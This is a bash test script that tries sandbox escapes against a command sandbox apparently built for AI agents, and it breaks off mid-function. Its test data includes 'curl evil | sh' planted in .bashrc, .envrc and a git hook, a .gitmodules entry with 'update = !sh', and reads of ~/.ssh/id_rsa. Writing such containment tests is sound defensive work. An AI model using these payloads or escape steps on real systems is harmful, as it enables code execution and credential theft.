#!/usr/bin/env bash
# TAP: escape attempts against `sbx run`. Each attempt must be refused inside the
# sandbox, and each has a control that shows the same attempt working where the
# sandbox, or the one setting that stops it, is absent: so every check can fail.
# sbx-attack (tests/attacks/attack.cpp) makes the attempts; its exit status is 0
# when one worked, 1 when it was refused and 2 on a usage error, and a process the
# filter kills dies of the signal, which sbx run passes on as 128+N.
# The controls loosen through settings where a setting can (filesystem.disabled,
# no denyRead, network.allowAllUnixSockets); the seccomp and namespace attempts,
# which no setting loosens, run in bare bubblewrap (the same namespaces without the
# filter) or with no sandbox at all. A control this machine cannot run (io_uring or
# TIOCSTI switched off by a sysctl) is skipped, saying why; its confined check runs.
# Every attack runs as the current user and, when that is root and SBX_TEST_USER
# names a user (tools/test.sh makes sbx-test), again as that user. Each case gets a
# fresh HOME, project and TMPDIR; the binaries are copied where any user can run
# them. Needs bash, coreutils, util-linux (setpriv, script, unshare), procps (pgrep),
# git, python3 and bubblewrap; strace, gdb and Debian's cargo for the cases that
# run them, each skipped, saying so, where it is missing. Where bubblewrap cannot
# make a sandbox, a user's cases are skipped.
# Usage: attacks_test.sh PATH-TO-SBX PATH-TO-SBX-LINUX PATH-TO-SBX-ATTACK
# Functions run through tap_on_exit, wait_until and a variable look unreachable to shellcheck.
# shellcheck disable=SC2317
set -euo pipefail

if (($# != 3)); then
    echo "usage: attacks_test.sh PATH-TO-SBX PATH-TO-SBX-LINUX PATH-TO-SBX-ATTACK" >&2
    exit 2
fi

source "$(dirname "${BASH_SOURCE[0]}")/../tap.sh"
tap_scratch
# Processes named after this marker were started by this test, whatever they became.
marker_base=sbxattack-$(basename "$tmp" | tr -dc 'A-Za-z0-9')
bg_pids=()
# stop_and_unmount, on exit before $tmp is removed: what the test started is
# killed, and the tmpfs of git_audit_attacks unmounted.
stop_and_unmount() {
    local pid
    for pid in "${bg_pids[@]}"; do kill -KILL "$pid" 2>/dev/null || true; done
    for pid in $(pgrep -f "$marker_base" || true); do kill -KILL "$pid" 2>/dev/null || true; done
    # The tmpfs, when the test ended inside that case.
    { grep -F " $tmp/" /proc/self/mounts || true; } | cut -d' ' -f2 | while read -r m; do umount "$m" 2>/dev/null || true; done
}
tap_on_exit stop_and_unmount

# The binaries may sit where the test user cannot read (a clone under /root).
bin=$tmp/bin
tap_readable_copies "$bin" "$1" "$2" "$3"
sbx=$bin/sbx
sbx_linux=$bin/sbx-linux
attack=$bin/sbx-attack

# Settings for the controls, each given as the flag layer (--settings).
conf=$tmp/settings
mkdir "$conf"
echo '{"sandbox": {"enabled": true, "filesystem": {"disabled": true}}}' >"$conf/fs-disabled.json"
# No read deny of its own, and the one allowRead that lifts the built-in denial of
# ~/.ssh (only naming a credential store opens it).
echo '{"sandbox": {"enabled": true, "filesystem": {"allowRead": ["~/.ssh"]}}}' >"$conf/no-deny.json"
echo '{"sandbox": {"enabled": true, "network": {"allowAllUnixSockets": true}}}' >"$conf/unix-sockets.json"
# The confined runs use the built-in default policy (no settings file at all), which
# is what a user without settings gets. This machine's managed settings file, if it
# has one, must not change the answers: an empty one stands in, under which the
# credential stores stay hidden as they do under every layer.
managed=()
confined=()
if [[ -e /etc/claude-code/managed-settings.json ]]; then
    echo '{}' >"$conf/empty-managed.json"
    managed=(--managed-settings "$conf/empty-managed.json")
fi
chmod 755 "$conf"
chmod 644 "$conf"/*

bare_bwrap=(bwrap --unshare-user --unshare-all --die-with-parent --ro-bind / / --dev /dev --proc /proc --)
# The same without capabilities, as sbx runs a root caller's command (uid 0, no
# capability): what it can still do is what procfs and sysfs grant the owner.
bare_nocaps=(bwrap --unshare-user --unshare-all --die-with-parent --cap-drop ALL --ro-bind / / --dev /dev --proc /proc)


# skip DESCRIPTION WHY: a TAP line for a check this machine cannot make.
skip() {
    n=$((n + 1))
    echo "ok $n - ${TAP_PREFIX-}$1 # SKIP $2"
    problems=()
}

want_file() { [[ -e $1 ]] || fail_because "$1 does not exist"; }
want_no_file() { [[ ! -e $1 && ! -L $1 ]] || fail_because "$1 exists"; }

# wait_until SECONDS COMMAND...: true as soon as COMMAND succeeds, false if it has
# not within SECONDS.
wait_until() {
    local deadline=$((SECONDS + $1))
    shift
    until "$@"; do
        ((SECONDS < deadline)) || return 1
        sleep 0.1
    done
}

# as_user NAME: the cases that follow run as NAME, in a directory of NAME's own.
as_user() {
    who=$1
    TAP_PREFIX="as $who: "
    work=$tmp/as-$who
    mkdir -m 755 "$work"
    if [[ $who == "$(id -un)" ]]; then
        as=()
    else
        as=(setpriv --reuid="$(id -u "$who")" --regid="$(id -g "$who")" --init-groups --)
        chown "$who:" "$work"
    fi
}

# give PATH...: PATH and what is under it belong to the case's user.
give() {
    ((${#as[@]} == 0)) || chown -R "$who:" "$@"
}

# fresh_case: sets $case_dir, $home, $proj and $tmpd for the next case and makes them.
fresh_case() {
    case_dir=$work/case-$((n + 1))
    home=$case_dir/home
    proj=$case_dir/project
    tmpd=$case_dir/tmp
    mkdir -p "$home" "$proj" "$tmpd"
    give "$case_dir"
}

# in_case COMMAND...: COMMAND as the case's user, with the case's HOME and TMPDIR.
in_case() { "${as[@]}" env HOME="$home" TMPDIR="$tmpd" "$@"; }

# capture COMMAND...: runs COMMAND with in_case and stdin from $input (/dev/null
# unless set); leaves $rc, $out and $err.
capture() {
    rc=0
    in_case "$@" <"${input:-/dev/null}" >"$case_dir/out" 2>"$case_dir/err" || rc=$?
    out=$(<"$case_dir/out")
    err=$(<"$case_dir/err")
}

# sbx_run [OPTION...] -- COMMAND...: `sbx run` of COMMAND with the case's project as
# the root, at most 20 seconds (a hang ends with status 124).
sbx_run() { capture timeout 20 "$sbx" run --root "$proj" "${managed[@]}" "$@"; }

# start_bg COMMAND...: COMMAND as the case's user in the background, output to
# $case_dir/bg.log; sets $bg_pid (the command's own pid: every step execs).
start_bg() {
    "${as[@]}" env HOME="$home" TMPDIR="$tmpd" "$@" </dev/null >"$case_dir/bg.log" 2>&1 &
    bg_pid=$!
    bg_pids+=("$bg_pid")
}

# stop_bg PID: kills and reaps a process start_bg started (quietly: bash reports a
# killed job on stderr otherwise), and forgets it, since its pid may come back.
stop_bg() {
    {
        kill -KILL "$1" || true
        wait "$1" || true
    } 2>/dev/null
    local kept=() pid
    for pid in "${bg_pids[@]}"; do [[ $pid == "$1" ]] || kept+=("$pid"); done
    bg_pids=("${kept[@]}")
}

# ended PID: the process is gone or a zombie (dead, not yet reaped).
ended() {
    local state
    state=$(sed -n 's/^State:[[:space:]]*\([A-Z]\).*/\1/p' "/proc/$1/status" 2>/dev/null || true)
    [[ -z $state || $state == Z ]]
}

no_process() { ! pgrep -f "$1" >/dev/null; }
has_process() { pgrep -f "$1" >/dev/null; }
tmpdir_made() { compgen -G "$tmpd/sbx-*" >/dev/null; }
no_tmpdir() { ! tmpdir_made; }

# file_state PATH: "absent", or "present" and a digest of the content.
file_state() {
    if [[ -e $1 || -L $1 ]]; then
        echo "present $(sha256sum <"$1" 2>/dev/null | cut -c1-16)"
    else
        echo absent
    fi
}

# Case set-ups: each prepares the fresh case's project and home.
setup_plain() { :; }
setup_repo() {
    # As the case's user: git refuses a repository that another user owns.
    in_case git init -q "$proj"
    in_case git -C "$proj" config user.name "sbx attack test"
    in_case git -C "$proj" config user.email "sbx-attack@example.invalid"
}
setup_claude() {
    mkdir "$proj/.claude"
    echo '{"sandbox": {"enabled": true}}' >"$proj/.claude/settings.json"
    give "$case_dir"
}
setup_tool_dirs() {
    mkdir "$proj/.husky" "$proj/.devcontainer"
    give "$case_dir"
}
setup_outside() {
    mkdir "$case_dir/outside"
    give "$case_dir"
}
secret=
setup_secret() {
    secret="sbx-attack secret $RANDOM$RANDOM"
    mkdir -m 700 "$home/.ssh"
    echo "$secret" >"$home/.ssh/id_rsa"
    give "$case_dir"
}

# --- the filesystem -------------------------------------------------------------------

# write_case SETUP DESCRIPTION PATH: writing PATH (relative to the case directory:
# project/... or outside/...) is refused and leaves the host's file as it was; the
# control writes it with filesystem.disabled.
write_case() {
    local setup=$1 what=$2 rel=$3 before text="written by an attack"
    fresh_case
    $setup
    before=$(file_state "$case_dir/$rel")
    sbx_run "${confined[@]}" -- "$attack" write "$case_dir/$rel" "$text"
    want_refused
    [[ $(file_state "$case_dir/$rel") == "$before" ]] || fail_because "$rel changed on the host"
    tap_finish "$what is refused"

    fresh_case
    $setup
    sbx_run --settings "$conf/fs-disabled.json" -- "$attack" write "$case_dir/$rel" "$text"
    want_succeeded
    [[ $(cat "$case_dir/$rel" 2>/dev/null || true) == "$text" ]] || fail_because "$rel does not hold the text"
    tap_finish "control: $what works with filesystem.disabled"
}

# neutralise_case SETUP DESCRIPTION NAME SCRIPT: NAME, a protected name missing at
# the root that only a later program reads, is made by SCRIPT (sh, in the root)
# while the command runs, which nothing refuses; once it is over, sbx has renamed
# it to NAME.sbx-disabled and said so, and NAME is gone. The control makes it
# with filesystem.disabled, where it stays.
neutralise_case() {
    local setup=$1 what=$2 name=$3 script=$4
    fresh_case
    $setup
    sbx_run "${confined[@]}" -- sh -c "$script" sh "$proj"
    want_status 0
    want_err "neutralised protected $proj/$name ("
    want_err ") -> $proj/$name.sbx-disabled"
    want_no_file "$proj/$name"
    [[ -e $proj/$name.sbx-disabled || -L $proj/$name.sbx-disabled ]] || fail_because "no $name.sbx-disabled"
    tap_finish "$what: renamed to $name.sbx-disabled once the command is over"

    fresh_case
    $setup
    sbx_run --settings "$conf/fs-disabled.json" -- sh -c "$script" sh "$proj"
    want_status 0
    want_no_err "neutralised"
    [[ -e $proj/$name || -L $proj/$name ]] || fail_because "$name was not made"
    want_no_file "$proj/$name.sbx-disabled"
    tap_finish "control: $what stays with filesystem.disabled"
}

# covered_case SETUP FILE WHAT: FILE (in a folder at the root that is missing,
# and read while the command runs: WHAT) can be made neither with its folders
# (an empty read-only placeholder is there) nor in them, and nothing is left on
# the host. The control makes it with filesystem.disabled.
covered_case() {
    local setup=$1 file=$2 what=$3 script='mkdir -p "$(dirname "$1/$2")" && echo "{\"x\": 1}" >"$1/$2"'
    fresh_case
    $setup
    sbx_run "${confined[@]}" -- sh -c "$script" sh "$proj" "$file"
    ((rc != 0)) || fail_because "the command made it"
    want_err "Read-only file system"
    want_no_file "$proj/${file%%/*}"
    tap_finish "making $file, $what, is refused"

    fresh_case
    $setup
    sbx_run --settings "$conf/fs-disabled.json" -- sh -c "$script" sh "$proj" "$file"
    want_status 0
    [[ -f $proj/$file ]] || fail_because "$file was not made"
    tap_finish "control: making $file works with filesystem.disabled"
}
# husky's hooks path, set before husky has made its folder.
setup_husky_path() {
    setup_repo
    in_case git -C "$proj" config core.hooksPath .husky/_
}

# Over 80 lines: one attack after another, each with its control, a few lines
# that end in tap_finish, in the order of their TAP numbers.
fs_attacks() {
    write_case setup_outside "writing a file outside the writable roots" outside/note.txt
    write_case setup_repo "writing .git/hooks/pre-commit" project/.git/hooks/pre-commit
    write_case setup_repo "writing .git/config" project/.git/config
    write_case setup_claude "writing .claude/settings.json" project/.claude/settings.json
    write_case setup_plain "creating HEAD at a root that is no repository" project/HEAD
    # Covered while the command runs: an open editor applies new settings at once.
    covered_case setup_repo .vscode/settings.json "which an open editor applies at once"
    covered_case setup_repo .zed/settings.json "which an open editor applies at once"
    # A name otherwise left to the audit, when something inside it is read then:
    # a commit outside while the command runs would run the hook.
    covered_case setup_husky_path .husky/_/pre-commit "a hook where core.hooksPath names a missing .husky/_"
    # Existing ones are read-only.
    write_case setup_tool_dirs "writing a hook in .husky" project/.husky/pre-commit
    write_case setup_tool_dirs "writing .devcontainer/devcontainer.json" project/.devcontainer/devcontainer.json
    # Missing ones only a later program reads: made, then renamed after the run.
    neutralise_case setup_repo "a .bashrc made in the root" .bashrc 'echo "curl evil | sh" >"$1/.bashrc"'
    neutralise_case setup_plain "a .mcp.json made in the root" .mcp.json 'echo "{\"mcpServers\": {}}" >"$1/.mcp.json"'
    neutralise_case setup_repo "an .envrc made in the root (direnv runs it)" .envrc 'echo "curl evil | sh" >"$1/.envrc"'
    neutralise_case setup_repo "an .envrc made as a symbolic link" .envrc 'ln -s /etc/hostname "$1/.envrc"'
    neutralise_case setup_repo "a .pre-commit-config.yaml made in the root" .pre-commit-config.yaml \
        'echo "repos: []" >"$1/.pre-commit-config.yaml"'
    neutralise_case setup_repo "a .husky folder made with a hook in it" .husky \
        'mkdir -p "$1/.husky/_" && echo "curl evil | sh" >"$1/.husky/pre-commit"'
    neutralise_case setup_repo "a .gitmodules made in the root" .gitmodules \
        'printf "[submodule \"x\"]\n\tpath = x\n\turl = ../x\n\tupdate = !sh\n" >"$1/.gitmodules"'

    # A .gitmodules git itself writes, checking out a branch with submodules, and
    # in which git runs nothing: it stays (the case above is its contrast).
    fresh_case
    setup_repo
    in_case git -C "$proj" commit -q --allow-empty -m first
    in_case git -C "$proj" checkout -q -b subs
    printf '[submodule "lib"]\n\tpath = lib\n\turl = ../lib\n' >"$proj/.gitmodules"
    give "$proj/.gitmodules"
    in_case git -C "$proj" add .gitmodules
    in_case git -C "$proj" commit -q -m subs
    in_case git -C "$proj" checkout -q -
    want_no_file "$proj/.gitmodules"
    sbx_run "${confined[@]}" -- git -C "$proj" checkout -q subs
    want_status 0
    want_no_err "neutralised"
    [[ -f $proj/.gitmodules && -z $(in_case git -C "$proj" status --porcelain) ]] ||
        fail_because "the work tree is not the branch's: $(in_case git -C "$proj" status --porcelain)"
    tap_finish "a checkout inside that brings a .gitmodules in which git runs nothing: it stays"

    # In a fresh repository the command sees the project and the names read live.
    fresh_case
    setup_repo
    sbx_run "${confined[@]}" -- ls -A "$proj"
    want_status 0
    [[ $(tr '\n' ' ' <<<"$out") == ".claude .cogitator .cursor .git .vscode .zed " ]] ||
        fail_because "ls -A inside lists: $(tr '\n' ' ' <<<"$out")"
    tap_finish "ls -A in a fresh repository lists .git and five placeholders read live"

    # A hidden file, read directly and through a symlink the command makes.
    fresh_case
    setup_secret
    sbx_run "${confined[@]}" -- "$attack" read "$home/.ssh/id_rsa"
    want_refused
    want_no_out "$secret"
    tap_finish "reading ~/.ssh/id_rsa (hidden by the default policy) is refused"

    fresh_case
    setup_secret
    sbx_run --settings "$conf/no-deny.json" -- "$attack" read "$home/.ssh/id_rsa"
    want_succeeded
    want_out "$secret"
    tap_finish "control: reading ~/.ssh/id_rsa works with settings whose allowRead names it"

    fresh_case
    setup_secret
    sbx_run "${confined[@]}" -- "$attack" symlink-read "$home/.ssh/id_rsa" "$proj/harmless-link"
    want_refused
    want_no_out "$secret"
    tap_finish "reading ~/.ssh/id_rsa through a symlink the command makes in the root is refused"

    fresh_case
    setup_secret
    sbx_run --settings "$conf/no-deny.json" -- "$attack" symlink-read "$home/.ssh/id_rsa" "$proj/harmless-link"
    want_succeeded
    want_out "$secret"
    tap_finish "control: reading through the symlink works with settings whose allowRead names ~/.ssh"

    # .git pinned: renaming it away would take the protected paths inside along.
    fresh_case
    setup_repo
    sbx_run "${confined[@]}" -- "$attack" rename "$proj/.git" "$proj/.git-moved"
    want_refused EBUSY
    want_file "$proj/.git/config"
    want_no_file "$proj/.git-moved"
    tap_finish "mv .git elsewhere in the root is refused with EBUSY"

    fresh_case
    setup_repo
    sbx_run --settings "$conf/fs-disabled.json" -- "$attack" rename "$proj/.git" "$proj/.git-moved"
    want_succeeded
    want_file "$proj/.git-moved/config"
    tap_finish "control: mv .git works with filesystem.disabled"

    # A protected path swapped for a symlink between plan and launch: the launcher
    # must see that the disk no longer looks as planned, and run nothing.
    fresh_case
    setup_repo
    capture "$sbx" plan --root "$proj" "${managed[@]}" "${confined[@]}" -- "$attack" write "$proj/launched"
    cp "$case_dir/out" "$case_dir/plan.json"
    [[ $rc == 0 ]] || fail_because "sbx plan failed with status $rc"
    # The real hooks stay inside .git, so that .git itself still looks as planned
    # and only the swapped path gives the change away.
    mv "$proj/.git/hooks" "$proj/.git/hooks-moved"
    mkdir "$case_dir/hooks-elsewhere"
    ln -s "$case_dir/hooks-elsewhere" "$proj/.git/hooks"
    give "$case_dir"
    input=$case_dir/plan.json capture timeout 20 "$sbx_linux" --plan-fd 0
    want_status 125
    grep -qE -- "$proj/\.git/hooks([^-]|\$)" <<<"$err" || fail_because "stderr does not name $proj/.git/hooks"
    want_no_file "$proj/launched"
    tap_finish ".git/hooks swapped for a symlink after the plan: sbx-linux refuses with 125, naming it"

    fresh_case
    setup_repo
    capture "$sbx" plan --root "$proj" "${managed[@]}" "${confined[@]}" -- "$attack" write "$proj/launched"
    cp "$case_dir/out" "$case_dir/plan.json"
    [[ $rc == 0 ]] || fail_because "sbx plan failed with status $rc"
    input=$case_dir/plan.json capture timeout 20 "$sbx_linux" --plan-fd 0
    want_succeeded
    want_file "$proj/launched"
    tap_finish "control: the same plan, with the disk unchanged, runs the command"
}

# --- namespaces and the seccomp filter ---------------------------------------------------

# ns_case DESCRIPTION SUBCOMMAND ARG...: refused with EPERM in the sandbox; works in
# bare bubblewrap.
ns_case() {
    local what=$1
    shift
    fresh_case
    sbx_run "${confined[@]}" -- "$attack" "$@"
    want_refused EPERM
    tap_finish "$what is refused with EPERM"

    fresh_case
    capture timeout 20 "${bare_bwrap[@]}" "$attack" "$@"
    want_succeeded
    tap_finish "control: $what works in bare bubblewrap (same namespaces, no filter)"
}

# Over 80 lines: one attack after another, each with its control, a few lines
# that end in tap_finish, in the order of their TAP numbers.
syscall_attacks() {
    ns_case "unshare -U (a user namespace)" unshare user
    # Without a user namespace to grant CAP_SYS_ADMIN, unshare -m and -n fail for an
    # unprivileged user whatever the filter says; the real attack asks for both.
    ns_case "unshare -Um (a mount namespace)" unshare user,mount
    ns_case "unshare -Un (a network namespace)" unshare user,net
    ns_case "clone with CLONE_NEWUSER|CLONE_NEWNS" clone-ns user,mount

    fresh_case
    mkdir "$proj/mnt"
    give "$case_dir"
    sbx_run "${confined[@]}" -- "$attack" mount "$proj/mnt"
    want_refused EPERM
    if mountpoint -q "$proj/mnt" 2>/dev/null; then
        fail_because "a tmpfs is mounted on $proj/mnt on the host"
        umount "$proj/mnt" || true
    fi
    tap_finish "mounting a tmpfs is refused with EPERM"

    fresh_case
    mkdir "$proj/mnt"
    give "$case_dir"
    if ! command -v unshare >/dev/null; then
        skip "control: mounting a tmpfs works under unshare -Urm" "unshare is not installed"
    else
        capture timeout 20 unshare -Urm "$attack" mount "$proj/mnt"
        want_succeeded
        tap_finish "control: mounting a tmpfs works under unshare -Urm"
    fi

    fresh_case
    sbx_run "${confined[@]}" -- "$attack" clone3
    want_refused ENOSYS
    tap_finish "clone3 is refused with ENOSYS (libc falls back to clone)"

    fresh_case
    capture "$attack" clone3
    want_succeeded
    tap_finish "control: clone3 makes a child outside the sandbox"

    fresh_case
    sbx_run "${confined[@]}" -- "$attack" io-uring
    want_refused EPERM
    tap_finish "io_uring_setup is refused with EPERM"

    fresh_case
    capture "$attack" io-uring
    local io_uring_disabled
    io_uring_disabled=$(cat /proc/sys/kernel/io_uring_disabled 2>/dev/null || echo 0)
    if [[ $rc == 1 && $io_uring_disabled != 0 ]]; then
        skip "control: io_uring_setup works outside the sandbox" "kernel.io_uring_disabled = $io_uring_disabled"
    else
        want_succeeded
        tap_finish "control: io_uring_setup works outside the sandbox"
    fi

    # x32: without the filter the kernel answers (ENOSYS where x32 is off); with it,
    # the process is killed by SIGSYS, 128 + 31.
    fresh_case
    sbx_run "${confined[@]}" -- "$attack" x32
    want_status 159
    tap_finish "a system call through the x32 numbering kills the command with SIGSYS (159)"

    fresh_case
    capture "$attack" x32
    [[ $rc == 0 || $rc == 1 ]] || fail_because "exit status $rc: killed without any filter"
    tap_finish "control: without the filter the same x32 call is answered, not killed"

    # i386 (int 0x80): killed by SIGSYS where the kernel has the ABI. Where it has
    # none, int 0x80 faults (SIGSEGV) with or without the filter.
    fresh_case
    capture "$attack" i386
    local i386_rc=$rc i386_out=$out i386_err=$err
    sbx_run "${confined[@]}" -- "$attack" i386
    if [[ $i386_rc == 139 ]]; then
        [[ $rc == 159 || $rc == 139 ]] || fail_because "exit status $rc, neither 159 (SIGSYS) nor 139 (SIGSEGV)"
    else
        want_status 159
    fi
    tap_finish "a system call through int 0x80 (i386) kills the command with SIGSYS (159)"

    rc=$i386_rc out=$i386_out err=$i386_err
    if [[ $rc == 139 ]]; then
        skip "control: an int 0x80 getpid is answered outside the sandbox" "this kernel has no i386 ABI (int 0x80 faults)"
    else
        want_succeeded
        tap_finish "control: an int 0x80 getpid is answered outside the sandbox"
    fi
}

# --- sockets and the terminal ----------------------------------------------------------

# server_settles: what the server outside received, if anything, arrives right
# after the connect: a connection the command says it made is waited for; after
# a refusal, a moment is enough for one the launcher would have made behind the
# command's back (and long before sbx run had ended) to show.
server_settles() {
    if grep -qF ': succeeded: ' <<<"$out"; then
        wait_until 2 grep -q 'accepted a connection' "$case_dir/bg.log" || true
    else
        sleep 0.3
    fi
}

# socket_case SETTINGS-FILE: a Unix socket to a server outside; sets $rc, $out and
# leaves the server's log in $case_dir/bg.log.
socket_case() {
    start_bg "$attack" unix-serve "$case_dir/sock" "$case_dir/ready"
    local server=$bg_pid
    if ! wait_until 10 test -e "$case_dir/ready"; then
        fail_because "the server outside did not start: $(<"$case_dir/bg.log")"
        stop_bg "$server"
        return
    fi
    sbx_run "$@" -- "$attack" unix-connect "$case_dir/sock"
    server_settles
    stop_bg "$server"
}

# unix_socket_paths: allowUnixSockets (an agent file's network.sockets) opens
# the socket it lists and no other. The one beside it, and a link to that one
# the command makes in its temporary folder, are refused and reported; a link
# to the listed one reaches it; a socket the command serves in its temporary
# folder is its own; a datagram socket, which would name its own path with
# sendto, is refused. The control of the refusals: socket_attacks', with
# allowAllUnixSockets.
unix_socket_paths() {
    fresh_case
    printf '{"sandbox": {"enabled": true, "network": {"allowUnixSockets": ["%s"]}}}' "$case_dir/sock" >"$case_dir/listed.json"
    "${as[@]}" "$attack" unix-serve "$case_dir/beside.sock" "$case_dir/ready-beside" >"$case_dir/beside.log" 2>&1 &
    local beside=$!
    bg_pids+=("$beside")
    give "$case_dir"
    wait_until 10 test -e "$case_dir/ready-beside" || fail_because "the server beside did not start: $(<"$case_dir/beside.log")"
    # shellcheck disable=SC2016
    served "$case_dir/sock" sbx_run --settings "$case_dir/listed.json" -- sh -c 'a=$1
        "$a" unix-connect "$2"; "$a" unix-connect "$3"
        ln -s "$3" "$TMPDIR/to-beside"; "$a" unix-connect "$TMPDIR/to-beside"
        ln -s "$2" "$TMPDIR/to-listed"; "$a" unix-connect "$TMPDIR/to-listed"
        "$a" socket unix dgram
        python3 -c "import os, socket
p = os.path.join(os.environ[\"TMPDIR\"], \"own.sock\")
s = socket.socket(socket.AF_UNIX); s.bind(p); s.listen(1)
c = socket.socket(socket.AF_UNIX); c.connect(p); print(\"own socket: connected\")"' sh "$attack" "$case_dir/sock" "$case_dir/beside.sock"
    stop_bg "$beside"
    want_status 0
    [[ $(grep -c 'accepted a connection: hello' "$case_dir/bg.log") == 2 ]] ||
        fail_because "the listed server was not reached twice, by its path and through a link: $(<"$case_dir/bg.log")"
    ! grep -q 'accepted' "$case_dir/beside.log" || fail_because "the server beside accepted a connection"
    [[ $(grep -c "unix-connect .*: refused: EACCES" <<<"$out") == 2 ]] || fail_because "not two refusals with EACCES: $out"
    want_out "socket: refused: EPERM (Operation not permitted) at socket(unix, dgram, 0)"
    want_out "own socket: connected"
    local line="deny unix-socket $case_dir/beside.sock (not among the Unix sockets open to the command"
    grep -qF "$line; by sbx-attack); to allow it: network.allowUnixSockets naming the path" <<<"$err" ||
        fail_because "no line of the block names the socket beside: $err"
    grep -F "$line" <<<"$err" | grep -qE "; named /[^ ]+/to-beside; by sbx-attack\); to allow it: network.allowUnixSockets" ||
        fail_because "no line of the block names the link to it: $err"
    tap_finish "allowUnixSockets opens the socket it lists (by a link too) and the command's own; the one beside and a link to it are refused and reported"

    # An agent file's network.sockets does the same, and its refusals name it.
    fresh_case
    printf -- '---\nname: t\nsandbox:\n  network:\n    sockets: [%s]\n---\n' "$case_dir/sock" >"$proj/AGENT.md"
    "${as[@]}" "$attack" unix-serve "$case_dir/beside.sock" "$case_dir/ready-beside" >"$case_dir/beside.log" 2>&1 &
    beside=$!
    bg_pids+=("$beside")
    give "$case_dir"
    wait_until 10 test -e "$case_dir/ready-beside" || fail_because "the server beside did not start: $(<"$case_dir/beside.log")"
    # shellcheck disable=SC2016
    served "$case_dir/sock" sbx_run --agent-file "$proj/AGENT.md" -- sh -c '"$1" unix-connect "$2"; "$1" unix-connect "$3"' \
        sh "$attack" "$case_dir/sock" "$case_dir/beside.sock"
    stop_bg "$beside"
    grep -q 'accepted a connection: hello' "$case_dir/bg.log" || fail_because "the listed server got no hello"
    ! grep -q 'accepted' "$case_dir/beside.log" || fail_because "the server beside accepted a connection"
    grep -qF "deny unix-socket $case_dir/beside.sock (not among the Unix sockets open to the command; by sbx-attack); to allow it: network.sockets in the agent file, naming the path" <<<"$err" ||
        fail_because "the refusal does not name network.sockets: $err"
    tap_finish "an agent file's network.sockets opens the socket it lists; the refusal of another names network.sockets"
}

# ssh_agent_case: the user's ssh-agent, reached by ssh-add only where its
# socket is listed; SSH_AUTH_SOCK passes then (a path is no secret), and is
# left out otherwise. The refusal is the attack; the listed run its control.
ssh_agent_case() {
    fresh_case
    if ! command -v ssh-agent >/dev/null || ! command -v ssh-add >/dev/null; then
        skip "ssh-add reaches the ssh-agent only where its socket is listed" "openssh-client is not installed (tools/install-deps.sh --tests installs it)"
        return
    fi
    local sock=$case_dir/agent.sock agent
    printf '{"sandbox": {"enabled": true, "network": {"allowUnixSockets": ["%s"]}}}' "$sock" >"$case_dir/agent.json"
    give "$case_dir"
    start_bg ssh-agent -D -a "$sock"
    agent=$bg_pid
    wait_until 10 test -S "$sock" || fail_because "the agent did not start: $(<"$case_dir/bg.log")"
    # shellcheck disable=SC2016
    capture env SSH_AUTH_SOCK="$sock" timeout 20 "$sbx" run --root "$proj" "${managed[@]}" --settings "$case_dir/agent.json" \
        -- sh -c 'echo "agent at $SSH_AUTH_SOCK"; ssh-add -l; echo "ssh-add: $?"'
    want_out "agent at $sock"
    want_out "The agent has no identities."
    want_out "ssh-add: 1"
    [[ $err != *"<sandbox_violations>"* ]] || fail_because "violations reported: $err"
    # shellcheck disable=SC2016
    capture env SSH_AUTH_SOCK="$sock" timeout 20 "$sbx" run --root "$proj" "${managed[@]}" "${confined[@]}" \
        -- sh -c 'echo "agent at ${SSH_AUTH_SOCK:-none}"; SSH_AUTH_SOCK="$1" ssh-add -l 2>&1; echo "ssh-add: $?"' sh "$sock"
    stop_bg "$agent"
    want_out "agent at none"
    want_out "Error connecting to agent: Permission denied"
    want_out "ssh-add: 2"
    want_err "deny unix-socket $sock (no Unix socket is open to the command; by ssh-add); to allow it: network.allowUnixSockets"
    tap_finish "ssh-add reaches the ssh-agent where its socket is listed (SSH_AUTH_SOCK passed), and is refused and reported where not"
}

# cargo_case: cargo builds and runs a crate whose program spawns a child.
cargo_case() {
    mkdir -p "$proj/hello/src"
    printf '[package]\nname = "hello"\nversion = "0.1.0"\nedition = "2021"\n' >"$proj/hello/Cargo.toml"
    echo 'fn main() {
    let status = std::process::Command::new("true").status().expect("spawn");
    println!("built, and its child ran: {}", status.success());
}' >"$proj/hello/src/main.rs"
    give "$case_dir"
    # Debian's, not a rustup proxy that PATH may find first (it writes to ~/.rustup).
    sbx_run "${confined[@]}" -- env CARGO_HOME="$proj/.cargo" RUSTC=/usr/bin/rustc \
        /usr/bin/cargo run --offline --quiet --manifest-path "$proj/hello/Cargo.toml"
    want_status 0
    want_out "built, and its child ran: true"
    tap_finish "cargo builds and runs a small crate in the sandbox"
}

# Over 80 lines: one attack after another, each with its control, a few lines
# that end in tap_finish, in the order of their TAP numbers.
socket_attacks() {
    fresh_case
    socket_case "${confined[@]}"
    want_refused EACCES
    ! grep -q 'accepted' "$case_dir/bg.log" || fail_because "the server outside accepted a connection"
    grep -qF "deny unix-socket $case_dir/sock (no Unix socket is open to the command; by sbx-attack); to allow it: network.allowUnixSockets naming the path" <<<"$err" ||
        fail_because "no line of the violations block names the socket and network.allowUnixSockets: $err"
    tap_finish "connecting a Unix socket to a server outside is refused with EACCES, and the block names it and the setting"

    fresh_case
    socket_case --settings "$conf/unix-sockets.json"
    want_succeeded
    grep -q 'accepted a connection: hello' "$case_dir/bg.log" || fail_because "the server outside got no hello"
    tap_finish "control: the connection reaches the server with network.allowAllUnixSockets"

    local type
    for type in dgram raw; do
        fresh_case
        sbx_run "${confined[@]}" -- "$attack" socketpair "$type"
        want_refused EPERM
        tap_finish "a $type Unix socketpair is refused with EPERM"

        fresh_case
        sbx_run --settings "$conf/unix-sockets.json" -- "$attack" socketpair "$type"
        if [[ $type == raw && $rc == 1 ]] && grep -qF 'refused: EPROTONOSUPPORT' <<<"$out"; then
            skip "control: a raw Unix socketpair works with network.allowAllUnixSockets" \
                "this kernel has no raw Unix sockets (EPROTONOSUPPORT)"
            continue
        fi
        want_succeeded
        tap_finish "control: a $type Unix socketpair works with network.allowAllUnixSockets"
    done

    # Stream pairs are pipes between processes; Rust's standard library spawns
    # processes through a seqpacket pair. Neither can be pointed elsewhere.
    for type in stream seqpacket; do
        fresh_case
        sbx_run "${confined[@]}" -- "$attack" socketpair "$type"
        want_succeeded
        tap_finish "a $type Unix socketpair still works in the sandbox"
    done
    fresh_case
    sbx_run "${confined[@]}" -- python3 -c 'import socket
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
a.send(b"one message"); print(b.recv(100).decode())'
    want_status 0
    want_out "one message"
    tap_finish "python3 passes a message through a seqpacket socketpair in the sandbox"

    # Rust's standard library spawns through a seqpacket pair: cargo and rustc with it.
    fresh_case
